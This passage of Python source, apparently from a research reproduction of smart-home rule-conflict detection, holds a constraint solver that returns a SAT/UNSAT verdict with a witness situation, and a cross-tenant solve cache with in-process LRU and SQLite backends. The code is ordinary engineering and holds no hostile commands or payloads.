  propagation loop over all currently asserted comparison atoms.

This mirrors what the paper obtains from JaCoP: a SAT/UNSAT verdict for
the merged trigger/condition constraints of a rule pair, plus a witness
situation used to explain the threat to the user.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field

from repro.constraints.terms import (
    AffineTerm,
    Atom,
    BoolFormula,
    CmpAtom,
    FreeAtom,
    StrTerm,
)

# Resolution used to model strict inequalities over (conceptually
# continuous) home measurements: `x < c` becomes `x <= c - EPS`.
EPS = 0.01
_MAX_PROPAGATION_ROUNDS = 400

_TRUE, _FALSE, _UNKNOWN = 1, 0, -1


@dataclass(slots=True)
class NumDomain:
    low: float
    high: float

    @property
    def empty(self) -> bool:
        return self.low > self.high + 1e-12

    @property
    def singleton(self) -> bool:
        return abs(self.high - self.low) < 1e-12

    def copy(self) -> "NumDomain":
        return NumDomain(self.low, self.high)


@dataclass(slots=True)
class StrDomain:
    """Finite candidates, or an open universe minus exclusions."""

    candidates: set[str] | None = None
    excluded: set[str] = field(default_factory=set)

    @property
    def empty(self) -> bool:
        if self.candidates is None:
            return False
        return not (self.candidates - self.excluded)

    def values(self) -> set[str] | None:
        if self.candidates is None:
            return None
        return self.candidates - self.excluded

    @property
    def singleton(self) -> str | None:
        values = self.values()
        if values is not None and len(values) == 1:
            return next(iter(values))
        return None

    def copy(self) -> "StrDomain":
        return StrDomain(
            None if self.candidates is None else set(self.candidates),
            set(self.excluded),
        )


@dataclass(slots=True)
class VarPool:
    """Variable declarations shared by all formulas of one query."""

    num_bounds: dict[str, tuple[float, float]] = field(default_factory=dict)
    str_candidates: dict[str, set[str] | None] = field(default_factory=dict)

    def declare_num(self, key: str, low: float, high: float) -> str:
        if key in self.num_bounds:
            old_low, old_high = self.num_bounds[key]
            self.num_bounds[key] = (min(old_low, low), max(old_high, high))
        else:
            self.num_bounds[key] = (low, high)
        return key

    def declare_str(self, key: str, candidates: set[str] | None) -> str:
        if key in self.str_candidates:
            current = self.str_candidates[key]
            if current is None:
                self.str_candidates[key] = (
                    None if candidates is None else set(candidates)
                )
            elif candidates is not None:
                current.update(candidates)
        else:
            self.str_candidates[key] = (
                None if candidates is None else set(candidates)
            )
        return key


@dataclass(slots=True)
class Result:
    """Solver verdict with an optional witness situation."""

    sat: bool
    witness: dict[str, object] = field(default_factory=dict)
    decisions: int = 0

    def __bool__(self) -> bool:
        return self.sat


class _SearchState:
    """Domains + asserted literal set along one search branch."""

    __slots__ = ("nums", "strs", "asserted", "free", "decided")

    def __init__(
        self,
        nums: dict[str, NumDomain],
        strs: dict[str, StrDomain],
        asserted: list[tuple[CmpAtom, bool]],
        free: dict[str, bool],
        decided: dict[str, bool] | None = None,
    ) -> None:
        self.nums = nums
        self.strs = strs
        self.asserted = asserted
        self.free = free
        # Atom-key -> assumed polarity; branching decisions are recorded
        # here so evaluation treats them as settled even when interval
        # reasoning alone cannot prove them.
        self.decided = decided if decided is not None else {}

    def copy(self) -> "_SearchState":
        return _SearchState(
            {key: dom.copy() for key, dom in self.nums.items()},
            {key: dom.copy() for key, dom in self.strs.items()},
            list(self.asserted),
            dict(self.free),
            dict(self.decided),
        )


class Solver:
    """Decides boolean combinations of comparison atoms over a pool."""

    def __init__(self, pool: VarPool) -> None:
        self._pool = pool
        self._decisions = 0

    def solve(self, formula: BoolFormula) -> Result:
        self._decisions = 0
        state = self._initial_state()
        sat_state = self._search(formula, state)
        if sat_state is None:
            return Result(sat=False, decisions=self._decisions)
        return Result(
            sat=True,
            witness=self._witness(sat_state),
            decisions=self._decisions,
        )

    # ------------------------------------------------------------------

    def _initial_state(self) -> _SearchState:
        nums = {
            key: NumDomain(low, high)
            for key, (low, high) in self._pool.num_bounds.items()
        }
        strs = {
            key: StrDomain(None if cands is None else set(cands))
            for key, cands in self._pool.str_candidates.items()
        }
        return _SearchState(nums, strs, [], {})

    def _search(
        self, formula: BoolFormula, state: _SearchState
    ) -> _SearchState | None:
        if not self._propagate(state):
            return None
        verdict, branch_atom, branch_positive = self._evaluate(formula, state)
        if verdict == _TRUE:
            return state
        if verdict == _FALSE:
            return None
        assert branch_atom is not None
        self._decisions += 1
        # Try the polarity that helps the formula first.
        for positive in (branch_positive, not branch_positive):
            candidate = state.copy()
            if self._assert_literal(branch_atom, positive, candidate):
                found = self._search(formula, candidate)
                if found is not None:
                    return found
        return None

    def _assert_literal(
        self, atom: Atom, positive: bool, state: _SearchState
    ) -> bool:
        if isinstance(atom, FreeAtom):
            current = state.free.get(atom.key)
            if current is not None and current != positive:
                return False
            state.free[atom.key] = positive
            return True
        key = str(atom)
        previous = state.decided.get(key)
        if previous is not None and previous != positive:
            return False
        state.decided[key] = positive
        literal = atom if positive else atom.negated()
        state.asserted.append((literal, True))
        return self._propagate(state)

    # ------------------------------------------------------------------
    # Three-valued evaluation

    def _evaluate(
        self, formula: BoolFormula, state: _SearchState
    ) -> tuple[int, Atom | None, bool]:
        """Returns (verdict, branch-atom, preferred-polarity)."""
        if formula.kind == "const":
            return (_TRUE if formula.value else _FALSE), None, True
        if formula.kind == "lit":
            atom = formula.atom
            assert atom is not None
            truth = self._atom_truth(atom, state)
            if truth == _UNKNOWN:
                return _UNKNOWN, atom, formula.positive
            if not formula.positive:
                truth = _TRUE if truth == _FALSE else _FALSE
            return truth, None, True
        if formula.kind == "and":
            pending: tuple[Atom | None, bool] = (None, True)
            all_true = True
            for child in formula.children:
                verdict, atom, polarity = self._evaluate(child, state)
                if verdict == _FALSE:
                    return _FALSE, None, True
                if verdict == _UNKNOWN:
                    all_true = False
                    if pending[0] is None:
                        pending = (atom, polarity)
            if all_true:
                return _TRUE, None, True
            return _UNKNOWN, pending[0], pending[1]
        # OR
        pending = (None, True)
        any_unknown = False
        for child in formula.children:
            verdict, atom, polarity = self._evaluate(child, state)
            if verdict == _TRUE:
                return _TRUE, None, True
            if verdict == _UNKNOWN:
                any_unknown = True
                if pending[0] is None:
                    pending = (atom, polarity)
        if any_unknown:
            return _UNKNOWN, pending[0], pending[1]
        return _FALSE, None, True

    def _atom_truth(self, atom: Atom, state: _SearchState) -> int:
        if isinstance(atom, FreeAtom):
            value = state.free.get(atom.key)
            if value is None:
                return _UNKNOWN
            return _TRUE if value else _FALSE
        decided = state.decided.get(str(atom))
        if decided is not None:
            return _TRUE if decided else _FALSE
        negated = state.decided.get(str(atom.negated()))
        if negated is not None:
            return _FALSE if negated else _TRUE
        if isinstance(atom.left, AffineTerm):
            return self._num_truth(atom, state)
        return self._str_truth(atom, state)

    def _num_truth(self, atom: CmpAtom, state: _SearchState) -> int:
        left, right = atom.left, atom.right
        assert isinstance(left, AffineTerm) and isinstance(right, AffineTerm)
        lo_l, hi_l = self._term_bounds(left, state)
        lo_r, hi_r = self._term_bounds(right, state)
        op = atom.op
        if op == "==":
            if hi_l < lo_r - 1e-12 or hi_r < lo_l - 1e-12:
                return _FALSE
            if (
                abs(lo_l - hi_l) < 1e-12
                and abs(lo_r - hi_r) < 1e-12
                and abs(lo_l - lo_r) < 1e-9
            ):
                return _TRUE
            return _UNKNOWN
        if op == "!=":
            inverse = self._num_truth(CmpAtom(left, "==", right), state)
            if inverse == _TRUE:
                return _FALSE
            if inverse == _FALSE:
                return _TRUE
            return _UNKNOWN
        if op == "<":
            if hi_l < lo_r - 1e-12:
                return _TRUE
            if lo_l >= hi_r - 1e-12:
                return _FALSE
            return _UNKNOWN
        if op == "<=":
            if hi_l <= lo_r + 1e-12:
                return _TRUE
            if lo_l > hi_r + 1e-12:
                return _FALSE
            return _UNKNOWN
        if op == ">":
            return self._num_truth(CmpAtom(right, "<", left), state)
        if op == ">=":
            return self._num_truth(CmpAtom(right, "<=", left), state)
        raise ValueError(f"unknown comparison op {op!r}")

    @staticmethod
    def _term_bounds(term: AffineTerm, state: _SearchState) -> tuple[float, float]:
        if term.var is None:
            return term.add, term.add
        domain = state.nums.get(term.var)
        if domain is None:
            low, high = -1e9, 1e9
        else:
            low, high = domain.low, domain.high
        a, b = term.mul * low + term.add, term.mul * high + term.add
        return (a, b) if a <= b else (b, a)

    def _str_truth(self, atom: CmpAtom, state: _SearchState) -> int:
        left, right = atom.left, atom.right
        assert isinstance(left, StrTerm) and isinstance(right, StrTerm)
        if atom.op not in ("==", "!="):
            return _FALSE  # ordering comparisons over strings: unsupported
        values_l = self._str_values(left, state)
        values_r = self._str_values(right, state)
        if values_l is not None and values_r is not None:
            overlap = values_l & values_r
            if not overlap:
                verdict = _FALSE
            elif len(values_l) == 1 and len(values_r) == 1:
                verdict = _TRUE
            else:
                verdict = _UNKNOWN
        else:
            # At least one open universe: equality is possible, and
            # inequality is possible unless both are the same singleton.
            verdict = _UNKNOWN
        if atom.op == "!=" and verdict != _UNKNOWN:
            verdict = _TRUE if verdict == _FALSE else _FALSE
        return verdict

    def _str_values(self, term: StrTerm, state: _SearchState) -> set[str] | None:
        if term.var is None:
            return {term.value} if term.value is not None else set()
        domain = state.strs.get(term.var)
        if domain is None:
            return None
        return domain.values()

    # ------------------------------------------------------------------
    # Propagation

    def _propagate(self, state: _SearchState) -> bool:
        if not self._difference_constraints_feasible(state):
            return False
        for _round in range(_MAX_PROPAGATION_ROUNDS):
            changed = False
            for literal, _ in state.asserted:
                outcome = self._apply(literal, state)
                if outcome == "conflict":
                    return False
                if outcome == "changed":
                    changed = True
            if not changed:
                return True
        return True  # interval tightening converged enough; cycles were
        # already excluded by the difference-constraint check above

    def _difference_constraints_feasible(self, state: _SearchState) -> bool:
        """Bellman-Ford negative-cycle check over the var-vs-var asserted
        atoms (``x + a <op> y + b`` with unit coefficients).  Interval
        propagation alone shrinks strict cycles like ``x < y && y < x``
        only by EPS per round, so infeasibility is detected here instead.
        """
        edges: list[tuple[str, str, float]] = []
        nodes: set[str] = set()
        for literal, _ in state.asserted:
            left, right = literal.left, literal.right
            if not (
                isinstance(left, AffineTerm)
                and isinstance(right, AffineTerm)
                and left.var is not None
                and right.var is not None
                and left.mul == 1.0
                and right.mul == 1.0
            ):
                continue
            op = literal.op
            # x + a <= y + b  ==>  x - y <= b - a (edge y -> x, weight b-a)
            bound = right.add - left.add
            if op in ("<", "<="):
                weight = bound - (EPS if op == "<" else 0.0)
                edges.append((right.var, left.var, weight))
            elif op in (">", ">="):
                weight = -bound - (EPS if op == ">" else 0.0)
                edges.append((left.var, right.var, weight))
            elif op == "==":
                edges.append((right.var, left.var, bound))
                edges.append((left.var, right.var, -bound))
            nodes.add(left.var)
            nodes.add(right.var)
        if not edges:
            return True
        distance = {node: 0.0 for node in nodes}
        for _ in range(len(nodes)):
            updated = False
            for source, target, weight in edges:
                if distance[source] + weight < distance[target] - 1e-12:
                    distance[target] = distance[source] + weight
                    updated = True
            if not updated:
                return True
        # One more relaxation round succeeding means a negative cycle.
        for source, target, weight in edges:
            if distance[source] + weight < distance[target] - 1e-12:
                return False
        return True

    def _apply(self, atom: CmpAtom, state: _SearchState) -> str:
        if isinstance(atom.left, AffineTerm):
            return self._apply_num(atom, state)
        return self._apply_str(atom, state)

    def _apply_num(self, atom: CmpAtom, state: _SearchState) -> str:
        left, right = atom.left, atom.right
        assert isinstance(left, AffineTerm) and isinstance(right, AffineTerm)
        op = atom.op
        if op == ">":
            return self._apply_num(CmpAtom(right, "<", left), state)
        if op == ">=":
            return self._apply_num(CmpAtom(right, "<=", left), state)
        changed = False
        lo_l, hi_l = self._term_bounds(left, state)
        lo_r, hi_r = self._term_bounds(right, state)
        if op == "==":
            changed |= self._tighten(left, max(lo_l, lo_r), min(hi_l, hi_r), state)
            changed |= self._tighten(right, max(lo_l, lo_r), min(hi_l, hi_r), state)
        elif op == "<":
            changed |= self._tighten(left, lo_l, min(hi_l, hi_r - EPS), state)
            changed |= self._tighten(right, max(lo_r, lo_l + EPS), hi_r, state)
        elif op == "<=":
            changed |= self._tighten(left, lo_l, min(hi_l, hi_r), state)
            changed |= self._tighten(right, max(lo_r, lo_l), hi_r, state)
        elif op == "!=":
            pass  # handled by evaluation on singletons
        for domain in state.nums.values():
            if domain.empty:
                return "conflict"
        return "changed" if changed else "ok"

    def _tighten(
        self,
        term: AffineTerm,
        low: float,
        high: float,
        state: _SearchState,
    ) -> bool:
        """Narrow the variable behind ``term`` so the term's value range
        fits [low, high]."""
        if term.var is None or term.mul == 0:
            if term.add < low - 1e-12 or term.add > high + 1e-12:
                # Constant outside range: mark conflict by emptying a
                # synthetic check in the caller (bounds check handles it).
                state.nums.setdefault("__const_conflict__", NumDomain(1, 0))
                return True
            return False
        domain = state.nums.get(term.var)
        if domain is None:
            domain = NumDomain(-1e9, 1e9)
            state.nums[term.var] = domain
        var_low = (low - term.add) / term.mul
        var_high = (high - term.add) / term.mul
        if var_low > var_high:
            var_low, var_high = var_high, var_low
        changed = False
        if var_low > domain.low + 1e-12:
            domain.low = var_low
            changed = True
        if var_high < domain.high - 1e-12:
            domain.high = var_high
            changed = True
        return changed

    def _apply_str(self, atom: CmpAtom, state: _SearchState) -> str:
        left, right = atom.left, atom.right
        assert isinstance(left, StrTerm) and isinstance(right, StrTerm)
        changed = False
        if atom.op == "==":
            values_l = self._str_values(left, state)
            values_r = self._str_values(right, state)
            if values_l is not None and values_r is not None:
                overlap = values_l & values_r
                if not overlap:
                    return "conflict"
                changed |= self._restrict(left, overlap, state)
                changed |= self._restrict(right, overlap, state)
            elif values_l is not None:
                changed |= self._restrict(right, values_l, state)
            elif values_r is not None:
                changed |= self._restrict(left, values_r, state)
        elif atom.op == "!=":
            singleton_l = self._singleton_of(left, state)
            singleton_r = self._singleton_of(right, state)
            if (
                singleton_l is not None
                and singleton_r is not None
                and singleton_l == singleton_r
            ):
                return "conflict"
            if singleton_l is not None:
                changed |= self._exclude(right, singleton_l, state)
            if singleton_r is not None:
                changed |= self._exclude(left, singleton_r, state)
        for domain in state.strs.values():
            if domain.empty:
                return "conflict"
        return "changed" if changed else "ok"

    def _singleton_of(self, term: StrTerm, state: _SearchState) -> str | None:
        if term.var is None:
            return term.value
        domain = state.strs.get(term.var)
        return domain.singleton if domain is not None else None

    def _restrict(
        self, term: StrTerm, allowed: set[str], state: _SearchState
    ) -> bool:
        if term.var is None:
            return False
        domain = state.strs.setdefault(term.var, StrDomain())
        current = domain.values()
        if current is None:
            domain.candidates = set(allowed) - domain.excluded
            return True
        new = current & allowed
        if new != current:
            domain.candidates = new
            return True
        return False

    def _exclude(self, term: StrTerm, value: str, state: _SearchState) -> bool:
        if term.var is None:
            return False
        domain = state.strs.setdefault(term.var, StrDomain())
        if value in domain.excluded:
            return False
        domain.excluded.add(value)
        return True

    # ------------------------------------------------------------------

    def _witness(self, state: _SearchState) -> dict[str, object]:
        witness: dict[str, object] = {}
        for key, domain in state.nums.items():
            if key.startswith("__"):
                continue
            mid = (domain.low + domain.high) / 2
            witness[key] = round(mid, 4)
        for key, domain in state.strs.items():
            values = domain.values()
            if values:
                witness[key] = sorted(values)[0]
            elif domain.candidates is None:
                for candidate in itertools.chain(
                    ("any",), (f"value{i}" for i in itertools.count())
                ):
                    if candidate not in domain.excluded:
                        witness[key] = candidate
                        break
        for key, value in state.free.items():
            witness[f"?{key}"] = value
        return witness
