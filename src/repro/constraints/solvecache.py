"""Shared cross-tenant solve cache (DESIGN.md §12).

Since the service redesign each :class:`~repro.service.home.TenantHome`
keeps private solve caches keyed by *home-local rule ids*, so a fleet
controller re-solves the same merged trigger/condition formula once per
tenant.  This module makes a solve reusable across homes by keying it
on the *content* of the constraint instance instead:

* :func:`shared_key` canonicalizes a ``(pool, formula)`` instance —
  variable names are replaced by positional placeholders (``v0``,
  ``v1``, … in pool declaration order, free atoms ``f0``, ``f1``, … in
  formula preorder) — and derives a SHA-256 key from the canonical
  serialization.  Two tenants whose rules lower to structurally
  identical constraints (same bounds, candidate sets, comparison
  structure) share one key no matter what their device ids are.
* :func:`encode_entry` / :func:`decode_entry` store a solver
  :class:`~repro.constraints.solver.Result` under canonical variable
  names and translate it back through the instance's own name maps.
  The solver's search is rename-equivariant (branching follows formula
  structure, witness construction iterates declaration order), so the
  decoded result is byte-identical to what solving locally would have
  produced — the cache can only ever short-circuit a solve, never
  change its outcome.
* :class:`SolveCacheBackend` is the pluggable storage protocol, with an
  in-process :class:`InProcessLRUCache` and a concurrency-safe
  :class:`SQLiteSolveCache` (WAL mode; multiple fleet-controller
  processes can share one cache file).  A corrupted SQLite file
  *degrades* — a warning plus cache misses, mirroring the
  ``DetectionStore`` corrupt-store behavior — and is never served
  stale or deleted.

Privacy stance: entries are keyed by fingerprints and store only the
verdict (sat bit, decision count, canonical witness values).  No rule
source, app name, device id or home id ever enters the cache, so a
shared cache file leaks nothing about any tenant's configuration.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
import threading
import warnings
from collections import OrderedDict
from pathlib import Path

from repro.constraints.solver import Result, VarPool
from repro.constraints.terms import AffineTerm, BoolFormula, CmpAtom, FreeAtom
from repro.resilience import CircuitBreaker
from repro.testing.faults import fault_hook

# Bump when the canonical serialization or entry format changes: old
# keys simply stop matching, so stale-format entries are never decoded.
_KEY_VERSION = "sc1"


# ----------------------------------------------------------------------
# Content-addressed keys


def _canon_term(term, var_map: dict[str, str], counter: list[int]) -> str:
    """Serialize one term under canonical variable names, assigning a
    placeholder to any variable the pool did not declare (defensive —
    the builder declares everything it references)."""
    var = term.var
    if var is not None:
        canon = var_map.get(var)
        if canon is None:
            canon = var_map[var] = f"v{counter[0]}"
            counter[0] += 1
    else:
        canon = ""
    if isinstance(term, AffineTerm):
        return f"a({canon},{term.mul!r},{term.add!r})"
    return f"t({canon},{term.value!r})"


def _canon_formula(
    formula: BoolFormula,
    var_map: dict[str, str],
    free_map: dict[str, str],
    counter: list[int],
) -> str:
    if formula.kind == "const":
        return "C1" if formula.value else "C0"
    if formula.kind == "lit":
        atom = formula.atom
        sign = "L1" if formula.positive else "L0"
        if isinstance(atom, CmpAtom):
            left = _canon_term(atom.left, var_map, counter)
            right = _canon_term(atom.right, var_map, counter)
            return f"{sign}[{left}{atom.op}{right}]"
        assert isinstance(atom, FreeAtom)
        canon = free_map.get(atom.key)
        if canon is None:
            canon = free_map[atom.key] = f"f{len(free_map)}"
        return f"{sign}[F({canon})]"
    parts = ",".join(
        _canon_formula(child, var_map, free_map, counter)
        for child in formula.children
    )
    joiner = "&" if formula.kind == "and" else "|"
    return f"{joiner}({parts})"


def shared_key(
    pool: VarPool, formula: BoolFormula
) -> tuple[str, dict[str, str], dict[str, str]]:
    """Content-addressed key for one constraint instance.

    Returns ``(key, var_map, free_map)`` where the maps take original
    variable / free-atom names to their canonical placeholders (used to
    translate witnesses in :func:`encode_entry` /
    :func:`decode_entry`).  Canonical names are positional: comparison
    variables in pool declaration order (numeric bounds first, then
    string candidate sets — both insertion-ordered dicts, a
    deterministic function of the formula's structure), free atoms in
    formula preorder.  The solve *kind* (situation/condition/effect) is
    deliberately not part of the key: the verdict depends only on the
    instance, so structurally equal instances hit across kinds too."""
    var_map: dict[str, str] = {}
    free_map: dict[str, str] = {}
    counter = [0]
    lines = [_KEY_VERSION]
    for var, (low, high) in pool.num_bounds.items():
        canon = var_map.get(var)
        if canon is None:
            canon = var_map[var] = f"v{counter[0]}"
            counter[0] += 1
        lines.append(f"n|{canon}|{low!r}|{high!r}")
    for var, candidates in pool.str_candidates.items():
        canon = var_map.get(var)
        if canon is None:
            canon = var_map[var] = f"v{counter[0]}"
            counter[0] += 1
        if candidates is None:
            lines.append(f"s|{canon}|*")
        else:
            lines.append(f"s|{canon}|{sorted(candidates)!r}")
    lines.append(_canon_formula(formula, var_map, free_map, counter))
    digest = hashlib.sha256("\n".join(lines).encode("utf-8")).hexdigest()
    return f"{_KEY_VERSION}:{digest}", var_map, free_map


# ----------------------------------------------------------------------
# Entry encode/decode (canonical-name witnesses)


def encode_entry(
    result: Result, var_map: dict[str, str], free_map: dict[str, str]
) -> dict | None:
    """A :class:`Result` as a JSON-safe cache entry under canonical
    names, or ``None`` when a witness key is untranslatable (never
    happens for solver-produced results; guarded so a surprise can only
    cost a publish, not corrupt the cache)."""
    witness: list[list] = []
    for key, value in result.witness.items():
        if key.startswith("?"):
            canon = free_map.get(key[1:])
            if canon is None:
                return None
            witness.append([f"?{canon}", value])
        else:
            canon = var_map.get(key)
            if canon is None:
                return None
            witness.append([canon, value])
    return {
        "sat": result.sat,
        "decisions": result.decisions,
        "witness": witness,
    }


def decode_entry(
    entry: object, var_map: dict[str, str], free_map: dict[str, str]
) -> Result | None:
    """Rebuild a :class:`Result` from a cache entry, translating the
    canonical witness names back through this instance's maps.  Any
    structural surprise — wrong shape, a canonical name this instance
    does not declare — returns ``None`` (a cache miss: the caller
    re-solves, which is always safe)."""
    if not isinstance(entry, dict):
        return None
    sat = entry.get("sat")
    witness_items = entry.get("witness")
    if not isinstance(sat, bool) or not isinstance(witness_items, list):
        return None
    inverse_vars = {canon: orig for orig, canon in var_map.items()}
    inverse_free = {canon: orig for orig, canon in free_map.items()}
    witness: dict[str, object] = {}
    for item in witness_items:
        if not isinstance(item, (list, tuple)) or len(item) != 2:
            return None
        canon, value = item
        if not isinstance(canon, str):
            return None
        if canon.startswith("?"):
            orig = inverse_free.get(canon[1:])
            if orig is None:
                return None
            witness[f"?{orig}"] = value
        else:
            orig = inverse_vars.get(canon)
            if orig is None:
                return None
            witness[orig] = value
    try:
        decisions = int(entry.get("decisions", 0))
    except (TypeError, ValueError):
        return None
    return Result(sat=sat, witness=witness, decisions=decisions)


# ----------------------------------------------------------------------
# Backends


class SolveCacheBackend:
    """Pluggable storage for shared solve verdicts.

    The contract every backend must honour: :meth:`get` returns exactly
    what an earlier :meth:`put` stored for the key (or ``None``),
    :meth:`put` is first-write-wins and reports whether the key was
    newly stored (so publish counters attribute each formula exactly
    once, fleet-wide), and any storage failure degrades to misses —
    never a stale entry, never an exception on the detection path."""

    def get(self, key: str) -> dict | None:
        raise NotImplementedError

    def put(self, key: str, entry: dict) -> bool:
        raise NotImplementedError

    def flush(self) -> None:
        """Persist buffered writes (no-op for unbuffered backends)."""

    def close(self) -> None:
        """Release storage handles; further gets degrade to misses."""

    def encode(self) -> object | None:
        """A picklable payload process plan-workers can reopen this
        backend from (:func:`cache_from_payload`), or ``None`` when the
        backend cannot be shared across processes — workers then simply
        skip shared-cache consults (solving is unaffected)."""
        return None


class InProcessLRUCache(SolveCacheBackend):
    """In-process LRU backend: one fleet controller process, many
    tenant homes.  Thread-safe; cannot travel to process plan-workers
    (``encode`` returns ``None``), so multi-process fleets want
    :class:`SQLiteSolveCache`."""

    def __init__(self, max_entries: int = 65536) -> None:
        if max_entries < 1:
            raise ValueError(f"max_entries must be >= 1, got {max_entries}")
        self.max_entries = max_entries
        self._entries: OrderedDict[str, dict] = OrderedDict()
        self._lock = threading.Lock()

    def __len__(self) -> int:
        return len(self._entries)

    def get(self, key: str) -> dict | None:
        with self._lock:
            entry = self._entries.get(key)
            if entry is not None:
                self._entries.move_to_end(key)
            return entry

    def put(self, key: str, entry: dict) -> bool:
        with self._lock:
            if key in self._entries:
                self._entries.move_to_end(key)
                return False
            self._entries[key] = entry
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)
            return True

    def __repr__(self) -> str:
        return (
            f"InProcessLRUCache(entries={len(self._entries)}, "
            f"max_entries={self.max_entries})"
        )


class SQLiteSolveCache(SolveCacheBackend):
    """SQLite-backed shared cache, safe for concurrent fleet
    controllers.

    WAL journaling plus a busy timeout let multiple processes read and
    publish against one cache file without serializing on each other;
    within a process a lock makes the connection thread-safe.  Layout
    is a single ``entries(key TEXT PRIMARY KEY, value TEXT)`` table —
    ``INSERT OR IGNORE`` gives first-write-wins publishes and an exact
    newly-stored signal.

    A corrupt or unreadable file (truncated, garbage, wrong format)
    disables the backend with a :class:`RuntimeWarning`: every get
    misses, every put reports not-stored, detection re-solves.  The
    file is never deleted — diagnosis stays possible and a concurrent
    healthy process is never sabotaged.

    *Transient* failures — ``sqlite3.OperationalError``: a locked
    database, a momentarily unwritable disk — do **not** disable the
    backend.  They feed a :class:`~repro.resilience.CircuitBreaker`
    (DESIGN.md §15): each failure is one miss, repeated failures open
    the breaker so detection stops hammering a sick disk, and after the
    cooldown a probe call quietly restores service.  Either way the
    contract holds: a failure can only cost a re-solve, never change a
    verdict."""

    def __init__(
        self,
        path: str | Path,
        breaker: CircuitBreaker | None = None,
    ) -> None:
        self.path = Path(path)
        self.breaker = breaker or CircuitBreaker(
            failure_threshold=3, cooldown_seconds=5.0, name="solve-cache"
        )
        self._lock = threading.Lock()
        self._conn: sqlite3.Connection | None = None
        try:
            conn = sqlite3.connect(
                str(self.path),
                check_same_thread=False,
                isolation_level=None,  # autocommit: puts land immediately
            )
            conn.execute("PRAGMA journal_mode=WAL")
            conn.execute("PRAGMA busy_timeout=5000")
            conn.execute("PRAGMA synchronous=NORMAL")
            conn.execute(
                "CREATE TABLE IF NOT EXISTS entries ("
                "key TEXT PRIMARY KEY, value TEXT NOT NULL)"
            )
            self._conn = conn
        except sqlite3.Error as exc:
            self._disable(exc)

    def _disable(self, exc: Exception) -> None:
        warnings.warn(
            f"shared solve cache {self.path} is unusable ({exc}); "
            "degrading to re-solving (results are unaffected)",
            RuntimeWarning,
            stacklevel=3,
        )
        if self._conn is not None:
            try:
                self._conn.close()
            except sqlite3.Error:
                pass
        self._conn = None

    def _transient(self, exc: Exception) -> None:
        """One transient failure: a breaker strike, not a disable."""
        before = self.breaker.times_opened
        self.breaker.record_failure()
        if self.breaker.times_opened > before:
            warnings.warn(
                f"shared solve cache {self.path} hit repeated transient "
                f"errors ({exc}); circuit breaker open for "
                f"{self.breaker.cooldown_seconds:.1f}s — degrading to "
                "re-solving (results are unaffected)",
                RuntimeWarning,
                stacklevel=4,
            )

    @property
    def breaker_state(self) -> str:
        """"disabled" (permanent), else the breaker's current state."""
        if self._conn is None:
            return "disabled"
        return self.breaker.state

    def __len__(self) -> int:
        with self._lock:
            if self._conn is None or not self.breaker.allow():
                return 0
            try:
                row = self._conn.execute(
                    "SELECT COUNT(*) FROM entries"
                ).fetchone()
            except sqlite3.OperationalError as exc:
                self._transient(exc)
                return 0
            except sqlite3.Error as exc:
                self._disable(exc)
                return 0
            self.breaker.record_success()
            return int(row[0])

    def get(self, key: str) -> dict | None:
        with self._lock:
            if self._conn is None or not self.breaker.allow():
                return None
            try:
                fault_hook("cache.get", key=key)
                row = self._conn.execute(
                    "SELECT value FROM entries WHERE key = ?", (key,)
                ).fetchone()
            except sqlite3.OperationalError as exc:
                self._transient(exc)
                return None
            except sqlite3.Error as exc:
                self._disable(exc)
                return None
            self.breaker.record_success()
        if row is None:
            return None
        try:
            entry = json.loads(row[0])
        except (TypeError, ValueError):
            return None  # one bad row degrades to one miss
        return entry if isinstance(entry, dict) else None

    def put(self, key: str, entry: dict) -> bool:
        value = json.dumps(entry, sort_keys=True)
        with self._lock:
            if self._conn is None or not self.breaker.allow():
                return False
            try:
                fault_hook("cache.put", key=key)
                cursor = self._conn.execute(
                    "INSERT OR IGNORE INTO entries (key, value) "
                    "VALUES (?, ?)",
                    (key, value),
                )
            except sqlite3.OperationalError as exc:
                self._transient(exc)
                return False
            except sqlite3.Error as exc:
                self._disable(exc)
                return False
            self.breaker.record_success()
            return cursor.rowcount > 0

    def flush(self) -> None:
        with self._lock:
            if self._conn is None or not self.breaker.allow():
                return
            try:
                self._conn.execute("PRAGMA wal_checkpoint(PASSIVE)")
            except sqlite3.OperationalError as exc:
                self._transient(exc)
            except sqlite3.Error as exc:
                self._disable(exc)

    def close(self) -> None:
        with self._lock:
            if self._conn is None:
                return
            try:
                self._conn.close()
            except sqlite3.Error:
                pass
            self._conn = None

    def encode(self) -> object | None:
        if self._conn is None:
            return None
        return ("sqlite", str(self.path))

    def __repr__(self) -> str:
        state = "disabled" if self._conn is None else "open"
        return f"SQLiteSolveCache({str(self.path)!r}, {state})"


# Per-process backend memo for plan workers: every chunk of a batch
# ships the same payload, so a worker opens one connection per cache
# file, not one per chunk (mirrors the resolver memo in dispatch.py).
_CACHE_MEMO: dict[tuple, SolveCacheBackend] = {}


def cache_from_payload(payload: object) -> SolveCacheBackend | None:
    """The live backend a plan worker should consult, from a
    :meth:`SolveCacheBackend.encode` payload (or a live backend object
    when the dispatcher never crossed a process boundary)."""
    if payload is None:
        return None
    if isinstance(payload, SolveCacheBackend):
        return payload
    if (
        isinstance(payload, tuple)
        and len(payload) == 2
        and payload[0] == "sqlite"
    ):
        cached = _CACHE_MEMO.get(payload)
        if cached is None:
            if len(_CACHE_MEMO) >= 4:
                _CACHE_MEMO.clear()
            cached = _CACHE_MEMO[payload] = SQLiteSolveCache(payload[1])
        return cached
    return None


def make_solve_cache(
    spec: str | SolveCacheBackend | None,
) -> SolveCacheBackend | None:
    """Resolve a user-facing ``solve_cache=`` setting into a backend.

    * ``None`` — no shared cache (each home's private caches only).
    * ``"lru"`` / ``"lru:N"`` — :class:`InProcessLRUCache` (default /
      ``N`` max entries).
    * ``"sqlite:<path>"`` — :class:`SQLiteSolveCache` on that file.
    * a :class:`SolveCacheBackend` instance — used as-is.
    """
    def unknown(problem: str = "") -> ValueError:
        detail = f" ({problem})" if problem else ""
        return ValueError(
            f"invalid solve-cache spec {spec!r}{detail}; valid specs: "
            "None (no shared cache), 'lru[:N]' with N >= 1, "
            "'sqlite:<path>', or a SolveCacheBackend instance"
        )

    if spec is None:
        return None
    if isinstance(spec, SolveCacheBackend):
        return spec
    if not isinstance(spec, str):
        raise unknown(f"unsupported type {type(spec).__name__}")
    text = spec.strip()
    name, _, arg = text.partition(":")
    if name.lower() == "lru":
        if not arg:
            return InProcessLRUCache()
        try:
            max_entries = int(arg)
        except ValueError:
            raise unknown(f"max entries {arg!r} is not an int") from None
        if max_entries < 1:
